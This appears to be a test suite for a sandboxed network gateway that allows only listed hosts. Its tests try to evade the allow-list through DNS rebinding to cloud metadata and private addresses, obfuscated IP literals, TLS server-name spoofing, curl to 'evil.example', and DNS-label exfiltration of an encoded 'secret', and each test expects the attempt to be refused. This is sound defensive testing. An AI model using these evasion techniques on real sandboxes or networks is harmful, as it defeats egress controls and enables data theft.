import { execFileSync } from "node:child_process";
import { once } from "node:events";
import { readFileSync } from "node:fs";
import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join, normalize } from "node:path";
import { create } from "@bufbuild/protobuf";
import { NetworkRuleSchema } from "@wingthing/contracts/gen/wingthing/egg/v1/config_pb";
import type { Refusal } from "@wingthing/contracts/gen/wingthing/egg/v1/egg_pb";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { type Gateway, openGateway } from "./gateway.ts";
import { prepareNetwork } from "./namespace/prepared-network.ts";
import { Inside } from "./testing/inside.ts";
import { type OutsideServers, startOutsideServers } from "./testing/outside-servers.ts";
import { mapUpstreams } from "./testing/upstream-map.ts";

const rule = (host: string, ...ports: number[]) => create(NetworkRuleSchema, { host, ports, source: "test" });

/** The first address of a name is what the policy checks; here the attacker's name server answers with ours. */
const REBINDING = {
  "metadata.wild.example": "169.254.169.254",
  "router.wild.example": "192.168.1.1",
  "self.wild.example": "127.0.0.1",
};

let folder: string;
let outside: OutsideServers;
let gateway: Gateway;
let inside: Inside;
let refusals: Refusal[] = [];
let hostPort: number;
const reasons = () => refusals.map(({ host, port, reason }) => `${host}:${port} ${reason}`);

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "wt-gateway-"));
  const repository = join(folder, "repo.git");
  execFileSync("git", ["init", "-q", "--bare", "-b", "main", repository]);
  const tree = execFileSync("git", ["-C", repository, "hash-object", "-t", "tree", "-w", "/dev/null"], {
    encoding: "utf8",
  }).trim();
  const identity = ["-c", "user.name=t", "-c", "user.email=t@example.com"];
  const commit = execFileSync("git", ["-C", repository, ...identity, "commit-tree", tree, "-m", "first"], {
    encoding: "utf8",
  }).trim();
  execFileSync("git", ["-C", repository, "update-ref", "refs/heads/main", commit]);
  execFileSync("git", ["-C", repository, "update-server-info"]);

  outside = await startOutsideServers(
    ["allowed.example", "*.wild.example", "evil.example"],
    async (incoming, answer) => {
      const path = normalize(new URL(incoming.url ?? "/", "http://x").pathname);
      if (!path.startsWith("/repo.git/"))
        return void answer.end(`hello from ${incoming.headers.host}${incoming.url}\n`);
      const content = await readFile(join(folder, path)).catch(() => undefined);
      answer.writeHead(content === undefined ? 404 : 200).end(content);
    },
  );
  hostPort = Number(outside.http.split(":")[1]);
  const map = mapUpstreams({
    "allowed.example:80": outside.http,
    "allowed.example:443": outside.https,
    "a.wild.example:443": outside.https,
    "echo.example:7": outside.echo,
    "bulk.example:5001": outside.bulk,
  });
  gateway = await openGateway({
    rules: [
      rule("allowed.example"),
      rule("*.wild.example"),
      rule("echo.example", 7),
      rule("bulk.example", 5001),
      rule("dead.example", 80),
    ],
    hostPorts: [hostPort],
    dial: map.dial,
    resolve: async (host, signal) => {
      const rebound = Object.entries(REBINDING).find(([name]) => name === host)?.[1];
      return rebound === undefined ? await map.resolve(host, signal) : [rebound];
    },
  });
  gateway.onRefusal((refusal) => refusals.push(refusal));
  const ca = outside.certificate.certFile;
  inside = await Inside.create(gateway.entry, {
    NODE_EXTRA_CA_CERTS: ca,
    SSL_CERT_FILE: ca,
    CURL_CA_BUNDLE: ca,
    GIT_SSL_CAINFO: ca,
  });
});

beforeEach(() => {
  refusals = [];
});

afterAll(async () => {
  await inside?.[Symbol.asyncDispose]();
  await gateway?.close();
  await outside?.[Symbol.asyncDispose]();
  await rm(folder, { recursive: true, force: true });
});

describe("an allowed name works for every program, with no proxy variable", () => {
  const fetching = (url: string) => `fetch("${url}").then((r) => r.text()).then((t) => process.stdout.write(t))`;
  const getting = (scheme: string) =>
    `require("node:${scheme}").get("${scheme}://allowed.example/node", (r) => r.pipe(process.stdout))`;
  test.each<[string, readonly string[], string]>([
    ["curl, plain", ["curl", "-sS", "http://allowed.example/c"], "hello from allowed.example/c\n"],
    ["curl, TLS", ["curl", "-sS", "https://allowed.example/c"], "hello from allowed.example/c\n"],
    ["curl, a name below a wildcard", ["curl", "-sS", "https://a.wild.example/w"], "hello from a.wild.example/w\n"],
    [
      "node fetch, plain",
      [process.execPath, "-e", fetching("http://allowed.example/f")],
      "hello from allowed.example/f\n",
    ],
    [
      "node fetch, TLS",
      [process.execPath, "-e", fetching("https://allowed.example/f")],
      "hello from allowed.example/f\n",
    ],
    ["node http", [process.execPath, "-e", getting("http")], "hello from allowed.example/node\n"],
    ["node https", [process.execPath, "-e", getting("https")], "hello from allowed.example/node\n"],
    [
      "python urllib, TLS",
      [
        "/usr/bin/python3",
        "-c",
        "import urllib.request as u; print(u.urlopen('https://allowed.example/p').read().decode(), end='')",
      ],
      "hello from allowed.example/p\n",
    ],
    ["git over http", ["git", "ls-remote", "--heads", "http://allowed.example/repo.git"], "refs/heads/main\n"],
    [
      "git over https",
      ["git", "-c", "http.sslVerify=true", "ls-remote", "--heads", "https://allowed.example/repo.git"],
      "refs/heads/main\n",
    ],
    [
      "raw TCP on a named port",
      [
        "bash",
        "-c",
        "exec 3<>/dev/tcp/echo.example/7; read -r line <&3; echo $line; echo hi >&3; read -r line <&3; echo $line",
      ],
      "banner\nhi\n",
    ],
    ["a hard-coded resolver", ["/usr/bin/python3", "-c", RESOLVE_AT("8.8.8.8", "allowed.example")], "198.18.0."],
  ])("%s", async (_what, argv, wanted) => {
    const { code, stdout, stderr } = await inside.run(argv);
    expect({ code, stderr }).toEqual({ code: 0, stderr: "" });
    expect(stdout).toContain(wanted);
  });

  test("git clones", async () => {
    const log = await inside.sh(
      "git clone -q http://allowed.example/repo.git $HOME/clone && git -C $HOME/clone log --format=%s && rm -rf $HOME/clone",
    );
    expect(log).toBe("first\n");
    expect(refusals).toEqual([]);
  });

  test("16 MB go up and come back whole", async () => {
    const script = `
      const socket = require("node:net").connect({ host: "bulk.example", port: 5001, allowHalfOpen: true });
      let got = 0; socket.on("data", (chunk) => { got += chunk.length; }).on("end", () => process.stdout.write(String(got)));
      socket.end(Buffer.alloc(16 << 20));`;
    const { stdout } = await inside.run([process.execPath, "-e", script]);
    expect(stdout).toBe(String(16 << 20));
  });
});

describe("everything else is refused in words that its protocol has, and told", () => {
  test("a name that no rule allows does not exist", async () => {
    const { code, stderr } = await inside.run(["curl", "-sS", "https://evil.example/"]);
    expect({ code, stderr }).toEqual({ code: 6, stderr: "curl: (6) Could not resolve host: evil.example\n" });
    expect(reasons()).toEqual(["evil.example:0 no network rule allows evil.example"]);
  });

  test.each([
    "93.184.215.14",
    "0x5db8d70f",
    "1572394768",
    "[2606:4700::1111]",
    "169.254.169.254",
    "192.168.1.1",
    "198.18.255.1",
  ])("the literal %s is refused", async (literal) => {
    const plain = await inside.run(["curl", "-sS", "--max-time", "5", `http://${literal}/`]);
    expect(plain.stdout === "" ? plain.stderr : plain.stdout).toMatch(
      /wingthing: no network rule allows|Connection reset|Failed to connect/,
    );
    const tls = await inside.run(["curl", "-sSk", "--max-time", "5", `https://${literal}/`]);
    expect(tls.stderr).toMatch(/alert access denied|reset|Failed to connect/i);
    expect(refusals.map(({ port }) => port)).toEqual([80, 443]);
  });

  test("another server name on an allowed address is refused", async () => {
    const { code, stderr } = await inside.run([
      "curl",
      "-sSk",
      "--connect-to",
      "evil.example:443:allowed.example:443",
      "https://evil.example/",
    ]);
    expect(code).toBe(35);
    expect(stderr).toMatch(/unrecognized name/);
    expect(reasons()).toEqual([
      "allowed.example:443 TLS to allowed.example on port 443 names another server, evil.example",
    ]);
  });

  test("TLS without a server name is refused on 443", async () => {
    const script = `require("node:tls").connect({ host: "allowed.example", port: 443, servername: "" }).on("error", (e) => console.log(e.code))`;
    expect((await inside.run([process.execPath, "-e", script])).stdout).toBe("ERR_SSL_TLSV1_UNRECOGNIZED_NAME\n");
    expect(reasons()).toEqual(["allowed.example:443 TLS to allowed.example on port 443 names no server (SNI)"]);
  });

  test("plain HTTP on 443 is refused with a sentence", async () => {
    expect(await inside.sh("curl -sS http://allowed.example:443/")).toBe(
      "wingthing: only TLS may be spoken to allowed.example on port 443\n",
    );
  });

  test.each(Object.entries(REBINDING))("%s, which resolves to %s, is refused", async (name, address) => {
    expect(await inside.sh(`curl -sS http://${name}/`)).toContain(`wingthing: ${name} (${address}) is `);
    expect((await inside.run(["curl", "-sSk", `https://${name}/`])).stderr).toMatch(/alert access denied/);
    expect(refusals).toHaveLength(2);
  });

  test("a name that is allowed but dead is a bad gateway, and no refusal", async () => {
    expect(await inside.sh("curl -sS http://dead.example/")).toContain("wingthing: dead.example cannot be resolved");
    expect(reasons()).toEqual([]);
  });

  test("an allowed name on a port that its rules do not name is refused when the port is caught, else reset", async () => {
    expect((await inside.run(["bash", "-c", "exec 3<>/dev/tcp/allowed.example/7; cat <&3"])).stderr).toMatch(/reset/);
    expect(reasons()).toEqual([
      "allowed.example:7 the network rules allow allowed.example on ports 80, 443, not on port 7",
    ]);
    expect((await inside.run(["bash", "-c", "exec 3<>/dev/tcp/allowed.example/8081"])).stderr).toMatch(
      /Connection refused/,
    );
  });
});

describe("nothing but TCP through the gateway gets anywhere", () => {
  test("UDP is refused at once, to any address and port", async () => {
    const script = `
import socket
for family, address in ((socket.AF_INET, "8.8.8.8"), (socket.AF_INET, "198.18.0.1"), (socket.AF_INET6, "2606:4700::1111")):
    for port in (443, 123, 5353):
        s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(3); s.connect((address, port)); s.send(b"x")
        try: s.recv(1); print("answered", address, port)
        except ConnectionRefusedError: pass
print("done")`;
    expect((await inside.run(["/usr/bin/python3", "-c", script])).stdout).toBe("done\n");
  });

  test("no raw socket can be had, and pings find nobody", async () => {
    const script = `
import socket
for family, kind, protocol in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 0), (socket.AF_INET, socket.SOCK_DGRAM, 1)):
    try: socket.socket(family, kind, protocol); print("opened", family, kind)
    except PermissionError: pass
print("done")`;
    expect((await inside.run(["/usr/bin/python3", "-c", script])).stdout).toBe("done\n");
  });

  test("there is no interface but loopback, and a program inside can add none", async () => {
    expect(await inside.sh("ls /sys/class/net >/dev/null; tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '")).toBe(
      "lo\n",
    );
    const { code, stderr } = await inside.run(["ip", "link", "add", "d0", "type", "dummy"]);
    expect(code).not.toBe(0);
    expect(stderr).toMatch(/Operation not permitted/);
  });

  test("names cannot carry data out: what is not an address of an allowed name is answered here", async () => {
    const names = ["c2VjcmV0.evil.example", `${"a".repeat(63)}.evil.example`, "allowed.example"];
    for (const name of names) {
      const answered = await inside.sh(`/usr/bin/python3 -c '${ASK_TXT(name)}'`);
      expect(answered).toMatch(/^[03] 0\n$/);
    }
  });
});

describe("loopback is the egg's own", () => {
  test("a server inside is reached inside, by name and by address", async () => {
    const script = `
      const server = require("node:http").createServer((q, r) => r.end("own\\n")).listen(3000, "127.0.0.1", async () => {
        for (const host of ["127.0.0.1", "localhost", "app.localhost"]) process.stdout.write(await (await fetch("http://" + host + ":3000/")).text());
        server.close();
      });`;
    expect((await inside.run([process.execPath, "-e", script])).stdout).toBe("own\nown\nown\n");
    expect(refusals).toEqual([]);
  });

  test("a host port that was opened is reached on it, others of the host are not", async () => {
    expect(await inside.sh(`curl -sS http://127.0.0.1:${hostPort}/h`)).toBe(`hello from 127.0.0.1:${hostPort}/h\n`);
    const closed = outside.https.split(":")[1];
    expect((await inside.run(["curl", "-sSk", `https://127.0.0.1:${closed}/`])).stderr).toMatch(
      /Couldn't connect|Failed to connect/,
    );
  });

  test("a caught port is nobody on loopback", async () => {
    expect((await inside.run(["curl", "-sS", "http://127.0.0.1/"])).stderr).toMatch(/reset|Failed to connect/);
    expect(refusals).toEqual([]);
  });
});

describe("the proxy is there for those who like it", () => {
  test("with its variables, curl, node and git work and get reasons", async () => {
    const { env } = gateway.entry;
    expect(await inside.sh("curl -sS http://allowed.example/ http://evil.example/", env)).toBe(
      "hello from allowed.example/\nwingthing: no network rule allows evil.example\n",
    );
    expect(await inside.sh("curl -sS https://allowed.example/", env)).toBe("hello from allowed.example/\n");
    const script = `fetch("https://allowed.example/n").then((r) => r.text()).then((t) => process.stdout.write(t))`;
    expect((await inside.run([process.execPath, "-e", script], env)).stdout).toBe("hello from allowed.example/n\n");
    expect(await inside.sh("git ls-remote --heads https://allowed.example/repo.git", env)).toContain("refs/heads/main");
  });

  test("it is no way to the host's loopback", async () => {
    const { env } = gateway.entry;
    for (const url of [`http://127.0.0.1:${hostPort}/`, "http://localhost/", "http://[::1]/"]) {
      expect(await inside.sh(`curl -sS --noproxy '' ${url}`, env)).toContain("wingthing: ");
    }
  });
});

test("a prepared network makes opening quick, and serves the same", async () => {
  const prepared = await prepareNetwork();
  await using warm = await openGateway({
    rules: [rule("allowed.example")],
    hostPorts: [],
    prepared,
    ...mapUpstreams({ "allowed.example:80": outside.http }),
  });
  await using there = await Inside.create(warm.entry);
  expect(await there.sh("curl -sS http://allowed.example/")).toBe("hello from allowed.example/\n");
});

test("the report names the tier and the ports", () => {
  const { area, tier, reason } = gateway.entry.enforcement;
  expect({ area, tier }).toEqual({ area: "network", tier: "ports" });
  expect(reason).toContain("7, 80, 443, 5001");
});

test("two gateways do not see each other", async () => {
  await using other = await openGateway({ rules: [], hostPorts: [] });
  await using there = await Inside.create(other.entry);
  const { stderr } = await there.run(["curl", "-sS", "http://allowed.example/"]);
  expect(stderr).toMatch(/Could not resolve host/);
});

describe("the end", () => {
  test("closing cuts what is open and frees every descriptor and process", async () => {
    const before = openDescriptors();
    const own = await openGateway({
      rules: [rule("echo.example", 7)],
      hostPorts: [],
      ...mapUpstreams({ "echo.example:7": outside.echo }),
    });
    await using there = await Inside.create(own.entry);
    const child = there.spawn(["bash", "-c", "exec 3<>/dev/tcp/echo.example/7; head -n1 <&3; cat <&3"]);
    await once(child.stdout!, "data");
    await own.close();
    const [code] = await once(child, "close");
    expect(code).not.toBe(0);
    await expect.poll(openDescriptors).toBeLessThanOrEqual(before);
  });

  test("when the holder dies, every connection is cut, and the egg is told once", async () => {
    const own = await openGateway({
      rules: [rule("echo.example", 7)],
      hostPorts: [],
      ...mapUpstreams({ "echo.example:7": outside.echo }),
    });
    await using there = await Inside.create(own.entry);
    const failures: Error[] = [];
    const failed = new Promise<void>((resolve) =>
      own.onFailure((error) => {
        failures.push(error);
        resolve();
      }),
    );
    const child = there.spawn([
      "bash",
      "-c",
      "exec 3<>/dev/tcp/echo.example/7; head -n1 <&3; cat <&3; curl -sS http://echo.example:7/ 2>&1",
    ]);
    await once(child.stdout!, "data");
    const closed = once(child, "close");
    process.kill(holderOf(own.entry.enter), "SIGKILL");
    await failed;
    await closed;
    expect(failures.map(({ name }) => name)).toEqual(["NamespaceDiedError"]);
    const late = new Promise<Error>((resolve) => own.onFailure(resolve));
    expect((await late).name).toBe("NamespaceDiedError");
    await own.close();
  });
});

function openDescriptors(): number {
  return Number(
    execFileSync("ls", [`/proc/${process.pid}/fd`], { encoding: "utf8" })
      .trim()
      .split("\n").length,
  );
}

/** Pid of the process that the namespace was made for: a child of this one that shares it. */
function holderOf(enter: readonly string[]): number {
  const wanted = execFileSync(enter[0]!, [...enter.slice(1), "readlink", "/proc/self/ns/net"], {
    encoding: "utf8",
  }).trim();
  const pids = execFileSync("ps", ["-eo", "pid="], { encoding: "utf8" }).trim().split(/\s+/);
  const holders = pids.filter((pid) => {
    try {
      const shares =
        execFileSync("readlink", [`/proc/${pid}/ns/net`], {
          encoding: "utf8",
          stdio: ["ignore", "pipe", "ignore"],
        }).trim() === wanted;
      return shares && readFileSync(`/proc/${pid}/comm`, "utf8").trim() === "cat";
    } catch {
      return false;
    }
  });
  return Number(holders[0]);
}

/** A program that asks one resolver for one name and prints the address. */
function RESOLVE_AT(resolver: string, name: string): string {
  const question = [...name.split(".")].map((label) => String.fromCharCode(label.length) + label).join("");
  const hex = Buffer.from(question, "latin1").toString("hex");
  return `import socket
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(3); s.connect(("${resolver}",53))
s.send(bytes.fromhex("123401000001000000000000${hex}0000010001")); a=s.recv(600); print(".".join(str(b) for b in a[-4:]))`;
}

/** A program that asks for TXT and prints the response code and the count of answers. */
function ASK_TXT(name: string): string {
  const hex = Buffer.from(
    [...name.split(".")].map((label) => String.fromCharCode(label.length) + label).join(""),
    "latin1",
  ).toString("hex");
  return `import socket
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(3); s.connect(("127.0.0.1",53))
s.send(bytes.fromhex("123401000001000000000000${hex}0000100001")); a=s.recv(600); print(a[3]&15, a[7])`;
}
